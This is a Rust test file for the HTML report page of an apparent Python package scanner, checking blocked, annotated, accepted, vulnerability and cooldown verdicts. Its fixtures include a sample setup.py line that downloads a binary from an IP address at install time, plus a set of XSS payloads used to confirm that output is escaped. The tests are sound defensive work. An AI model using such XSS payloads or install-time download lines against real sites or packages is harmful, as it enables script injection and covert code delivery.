//! Report page tests: one table of verdict shapes (blocked with evidence, annotated,
//! accepted, vulnerability, held before download, hostile content), what the metadata
//! gives the page, and a snapshot of a representative page's body.

use super::*;
use crate::model::{ArtifactKind, FileRole, Reason, ReasonCode, Severity};
use crate::scan::{ScanStats, REPORT_SCHEMA_VERSION};

fn evidence(path: &str, line: u32, snippet: &str, indicator: &str, role: FileRole) -> Evidence {
    Evidence {
        path: path.into(),
        line: Some(line),
        column: Some(5),
        snippet: Some(snippet.into()),
        indicator: Some(indicator.into()),
        role,
        severity: None,
    }
}

fn finding(id: &str, category: Category, severity: Severity, title: &str, evidence: Vec<Evidence>) -> Finding {
    Finding {
        detector: id.into(),
        title: title.into(),
        category,
        severity,
        message: format!("{title} (test)"),
        evidence,
    }
}

fn downloader() -> Finding {
    finding(
        "network.downloads-file",
        Category::Network,
        Severity::High,
        "Downloads a file",
        vec![evidence(
            "setup.py",
            12,
            "urllib.request.urlretrieve('http://198.51.100.7/x.bin', '/tmp/x')",
            "http://198.51.100.7/x.bin",
            FileRole::InstallTime,
        )],
    )
}

fn vulnerability() -> Finding {
    let ev = |path: &str, indicator: &str| Evidence {
        path: path.into(),
        line: None,
        column: None,
        snippet: None,
        indicator: Some(indicator.into()),
        role: FileRole::Metadata,
        severity: None,
    };
    finding(
        "vulnerability.known",
        Category::Vulnerability,
        Severity::Critical,
        "Known vulnerability PYSEC-2099-1 (fixed in 2.0.1)",
        vec![
            ev("advisory:PYSEC-2099-1", "CVE-2099-0001"),
            ev("exploitation", "exploited-in-the-wild"),
            ev("fixed-in", "2.0.1"),
        ],
    )
}

fn report(project: &str, filename: &str, findings: Vec<Finding>) -> ScanReport {
    ScanReport {
        schema_version: REPORT_SCHEMA_VERSION,
        scanner_version: "test-scanner".into(),
        filename: filename.into(),
        kind: ArtifactKind::Sdist,
        project: Some(project.into()),
        version: Some("1.0".into()),
        findings,
        stats: ScanStats::default(),
        licence: Licence::default(),
    }
}

fn facts(project: &str, filename: &str) -> Facts {
    Facts {
        project: project.into(),
        version: Some("1.0".into()),
        filename: filename.into(),
        kind: "sdist",
        size: Some(2048),
        sha256: "ab".repeat(32),
        hashes: [("md5".to_string(), "cd".repeat(16))].into_iter().collect(),
        upload_time: Some("2026-11-01T10:00:00Z".into()),
    }
}

fn verdict(decision: Decision, reasons: Vec<Reason>, acceptances: &[&str]) -> Verdict {
    let mut v = Verdict::serve(reasons[0].clone());
    v.decision = decision;
    v.reasons = reasons;
    v.acceptances = acceptances.iter().map(ToString::to_string).collect();
    v.policy_digest = "feedface".into();
    v
}

fn reason(code: ReasonCode, message: &str, findings: &[&str]) -> Reason {
    Reason { code, message: message.into(), findings: findings.iter().map(ToString::to_string).collect() }
}

const SNIPPET: &str =
    "  # Paste under `acceptances:`; replace the owner, reason and ticket.\n  - id: \"accept-demo-1.0-abababab\"\n";

struct Case {
    name: &'static str,
    project: &'static str,
    filename: &'static str,
    findings: Vec<Finding>,
    scanned: bool,
    verdict: Verdict,
    metadata: &'static str,
    acceptance: Option<&'static str>,
    new: Option<NewInVersion>,
    must: Vec<&'static str>,
    must_not: Vec<&'static str>,
}

#[test]
fn the_page_shows_each_verdict_shape() {
    let blocked = verdict(
        Decision::Block,
        vec![reason(
            ReasonCode::Rule("install-time-network".into()),
            "install-time download",
            &["network.downloads-file"],
        )],
        &[],
    );
    let hostile = "<script>alert(1)</script>";
    let cases = vec![
        Case {
            name: "blocked with evidence",
            project: "demo",
            filename: "demo-1.0.tar.gz",
            findings: vec![downloader()],
            scanned: true,
            verdict: blocked.clone(),
            metadata: "Name: demo\nAuthor-email: Dev <dev@example.org>\nProject-URL: Source, https://example.org/demo\n",
            acceptance: Some(SNIPPET),
            new: Some(NewInVersion {
                previous: "demo==0.9".into(),
                findings: vec![("network.downloads-file".into(), "Downloads a file".into())],
            }),
            must: vec![
                "Verdict: <span class=\"decision\">Blocked</span>",
                "rule:install-time-network",
                "setup.py:12:5",
                "urllib.request.urlretrieve('http://198.51.100.7/x.bin', '/tmp/x')",
                "http://198.51.100.7/x.bin",
                "<td>install time</td>",
                "Dev &lt;dev@example.org&gt;",
                "<a href=\"https://example.org/demo\" rel=\"nofollow noopener noreferrer\">",
                "md5",
                "2026-11-01T10:00:00Z",
                "accept-demo-1.0-abababab",
                "Behaviours <code>demo==0.9</code> did not have",
                "pipgate policy explain abababab",
            ],
            must_not: vec!["Not compared", "Nothing to accept"],
        },
        Case {
            name: "annotated",
            project: "demo",
            filename: "demo-1.0.tar.gz",
            findings: vec![downloader()],
            scanned: true,
            verdict: verdict(
                Decision::Annotate,
                vec![reason(ReasonCode::DefaultCategory, "network findings are annotated", &["network.downloads-file"])],
                &[],
            ),
            metadata: "",
            acceptance: Some("  # nothing to accept\n"),
            new: None,
            must: vec!["Served, with findings to review", "default:category", "Nothing to accept", "Not compared", "not named in the metadata"],
            must_not: vec!["Blocked", "Paste under"],
        },
        Case {
            name: "accepted",
            project: "demo",
            filename: "demo-1.0.tar.gz",
            findings: vec![downloader()],
            scanned: true,
            verdict: verdict(
                Decision::Serve,
                vec![reason(ReasonCode::Acceptance("SEC-42".into()), "accepted until 2027-01-01", &["network.downloads-file"])],
                &["SEC-42"],
            ),
            metadata: "",
            acceptance: None,
            new: None,
            must: vec!["Verdict: <span class=\"decision\">Served</span>", "Acceptances that applied: <code>SEC-42</code>", "acceptance:SEC-42"],
            must_not: vec!["Blocked"],
        },
        Case {
            name: "vulnerability",
            project: "demo",
            filename: "demo-1.0.tar.gz",
            findings: vec![vulnerability()],
            scanned: true,
            verdict: verdict(
                Decision::Block,
                vec![reason(ReasonCode::Rule("no-exploited".into()), "exploited vulnerability", &["vulnerability.known"])],
                &[],
            ),
            metadata: "",
            acceptance: Some(SNIPPET),
            new: None,
            must: vec![
                "Vulnerabilities and known malware <span class=\"count\">(1)</span>",
                "<code>PYSEC-2099-1</code>, <code>CVE-2099-0001</code>",
                "<li class=\"current\">exploited in the wild</li>",
                "<li class=\"past\">exploits unknown</li>",
                "<li class=\"later\">patching mandated</li>",
                "Fixed in: <code>2.0.1</code>",
                "upgrade to a fixed version",
            ],
            must_not: vec!["No advisory record names this release"],
        },
        Case {
            name: "held before download",
            project: "demo",
            filename: "demo-1.0.tar.gz",
            findings: vec![],
            scanned: false,
            verdict: {
                let mut v = verdict(Decision::Block, vec![reason(ReasonCode::Cooldown, "too new", &[])], &[]);
                v.available_at = Some("2026-12-01T00:00:00Z".into());
                v
            },
            metadata: "",
            acceptance: Some("  # Paste under `cooldown:` → `exempt:`\n    - \"demo==1.0\"\n"),
            new: None,
            must: vec![
                "it was not downloaded or scanned",
                "Held by the cooldown until <time>2026-12-01T00:00:00Z</time>",
                "Not scanned.",
                "Not read: the file was not scanned.",
                "exempt:",
            ],
            must_not: vec!["None found."],
        },
        Case {
            name: "hostile content",
            project: hostile,
            filename: "<script>x</script>-1.0.tar.gz",
            findings: vec![finding(
                "network.downloads-file",
                Category::Network,
                Severity::High,
                "<img src=x onerror=alert(2)>",
                vec![evidence(
                    "</code><script>alert(3)</script>.py",
                    1,
                    "\"><script>alert(4)</script>",
                    "javascript:alert(5)",
                    FileRole::Runtime,
                )],
            )],
            scanned: true,
            verdict: blocked.clone(),
            metadata: "Name: x\nAuthor: <script>alert(6)</script>\nSummary: </title><script>alert(7)</script>\nProject-URL: Home, javascript:alert(8)\nHome-page: \"><script>alert(9)</script>\n",
            acceptance: Some("  - id: \"</pre><script>alert(10)</script>\"\n"),
            new: Some(NewInVersion { previous: "<b>x</b>".into(), findings: vec![("a\"b".into(), "<i>t</i>".into())] }),
            must: vec![
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&lt;img src=x onerror=alert(2)&gt;",
                "&lt;/code&gt;&lt;script&gt;alert(3)&lt;/script&gt;.py",
                "&lt;script&gt;alert(6)&lt;/script&gt;",
                "<code>javascript:alert(8)</code>",
                "tar -xf FILE -C inspect",
                "&lt;/pre&gt;&lt;script&gt;alert(10)&lt;/script&gt;",
            ],
            must_not: vec!["<script", "<img", "href=\"javascript:", "<b>x</b>", "<i>t</i>"],
        },
    ];
    for c in cases {
        let r = report(c.project, c.filename, c.findings.clone());
        let page = ReportPage {
            facts: facts(c.project, c.filename),
            about: About::from_metadata(c.metadata),
            report: c.scanned.then_some(&r),
            verdict: Some(&c.verdict),
            findings: &c.findings,
            new_in_version: c.new,
            acceptance: c.acceptance.map(str::to_string),
            remedy: None,
        };
        let html = render(&page);
        for want in &c.must {
            assert!(html.contains(want), "{}: missing {want:?}\n{html}", c.name);
        }
        for unwanted in &c.must_not {
            assert!(!html.contains(unwanted), "{}: must not contain {unwanted:?}\n{html}", c.name);
        }
        // The page is well-formed enough for a parser, runs no script, and is phone-sized.
        let dom = tl::parse(&html, tl::ParserOptions::default()).expect("parses");
        assert_eq!(dom.query_selector("script").map(Iterator::count), Some(0), "{}", c.name);
        assert_eq!(dom.query_selector("h1").map(Iterator::count), Some(1), "{}", c.name);
        assert!(
            html.contains("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">"),
            "{}",
            c.name
        );
    }
}

#[test]
fn uncommon_behaviours_rank_before_common_ones() {
    // Both in the survey: creating a process is common there, silent PowerShell is not.
    let common = finding("execution.creates-process", Category::Execution, Severity::High, "Creates a process", vec![]);
    let rare = finding("execution.silent-powershell", Category::Execution, Severity::Low, "Runs PowerShell", vec![]);
    let (Some(pc), Some(pr)) = (prevalence_of(&common), prevalence_of(&rare)) else {
        panic!("both detectors are in the prevalence survey");
    };
    assert!(pc.common && !pr.common, "survey labels: {} / {}", pc.text, pr.text);
    let all = [&common, &rare];
    let order: Vec<&str> = ranked(&all, Category::Execution).iter().map(|(f, _)| f.detector.as_str()).collect();
    assert_eq!(order, ["execution.silent-powershell", "execution.creates-process"]);
    let html = render(&ReportPage {
        facts: facts("demo", "demo-1.0.tar.gz"),
        about: About::default(),
        report: None,
        verdict: None,
        findings: &[common.clone(), rare.clone()],
        new_in_version: None,
        acceptance: None,
        remedy: None,
    });
    assert!(html.contains("<span class=\"tag uncommon\">uncommon</span>"), "{html}");
    assert!(html.contains("<span class=\"tag common\">common</span>"), "{html}");
    assert!(html.find("Runs PowerShell") < html.find("Creates a process"), "uncommon first");
}

#[test]
fn metadata_gives_people_and_links() {
    type Want<'a> = (Option<&'a str>, &'a [(&'a str, &'a str)], &'a [(&'a str, &'a str)]);
    let cases: [(&str, &str, Want); 4] = [
        (
            "full",
            "Name: a\nSummary: A thing\nAuthor: Ann\nAuthor-email: ann@example.org\nMaintainer-email: m@example.org\nHome-page: https://example.org\nProject-URL: Docs, https://docs.example.org\n",
            (
                Some("A thing"),
                &[("Author", "Ann"), ("Author-email", "ann@example.org"), ("Maintainer-email", "m@example.org")],
                &[("Home page", "https://example.org"), ("Docs", "https://docs.example.org")],
            ),
        ),
        ("UNKNOWN and empty values are skipped", "Author: UNKNOWN\nHome-page: \nSummary: UNKNOWN\n", (None, &[], &[])),
        ("Project-URL without a label", "Project-URL: https://example.org/x\n", (None, &[], &[("Project URL", "https://example.org/x")])),
        ("the description body is not read", "Name: a\n\nAuthor: not a header\n", (None, &[], &[])),
    ];
    for (case, text, (summary, people, links)) in cases {
        let a = About::from_metadata(text);
        assert_eq!(a.summary.as_deref(), summary, "{case}");
        let got: Vec<(&str, &str)> = a.people.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        assert_eq!(got, people, "{case}");
        let got: Vec<(&str, &str)> = a.links.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        assert_eq!(got, links, "{case}");
    }
}

#[test]
fn a_representative_page() {
    let findings = vec![
        downloader(),
        finding(
            "secrets.private-key",
            Category::Secrets,
            Severity::Medium,
            "Contains a private key",
            vec![evidence(
                "tests/key.pem",
                1,
                "-----BEGIN PRIVATE KEY----- MIIE…[redacted]",
                "sha256:1234",
                FileRole::TestOrDocs,
            )],
        ),
        vulnerability(),
    ];
    let mut r = report("demo", "demo-1.0.tar.gz", findings.clone());
    r.licence = Licence {
        expression: Some("MIT".into()),
        from: Some(crate::model::LicenceOrigin::LicenseExpression),
        sources: vec![crate::model::LicenceSource {
            origin: crate::model::LicenceOrigin::LicenseExpression,
            path: "demo-1.0/PKG-INFO".into(),
            line: Some(4),
            text: "MIT".into(),
            spdx: Some("MIT".into()),
        }],
    };
    let v = verdict(
        Decision::Block,
        vec![reason(
            ReasonCode::Rule("install-time-network".into()),
            "install-time download",
            &["network.downloads-file"],
        )],
        &[],
    );
    let page = ReportPage {
        facts: facts("demo", "demo-1.0.tar.gz"),
        about: About::from_metadata("Name: demo\nSummary: A demo\nAuthor-email: Dev <dev@example.org>\nProject-URL: Source, https://example.org/demo\n"),
        report: Some(&r),
        verdict: Some(&v),
        findings: &findings,
        new_in_version: None,
        acceptance: Some(SNIPPET.into()),
        remedy: Some("To request a risk acceptance, ask your security team.".into()),
    };
    let html = render(&page);
    // The survey's numbers change with its data; the page's shape is what is pinned here.
    let mut body = html.split_once("<body>").map(|(_, b)| b.to_string()).unwrap_or_default();
    for f in &findings {
        if let Some(p) = crate::scan::report::prevalence(&f.detector) {
            body = body.replace(&p, "[prevalence]");
        }
    }
    insta::assert_snapshot!(body.replace("><", ">\n<"));
}
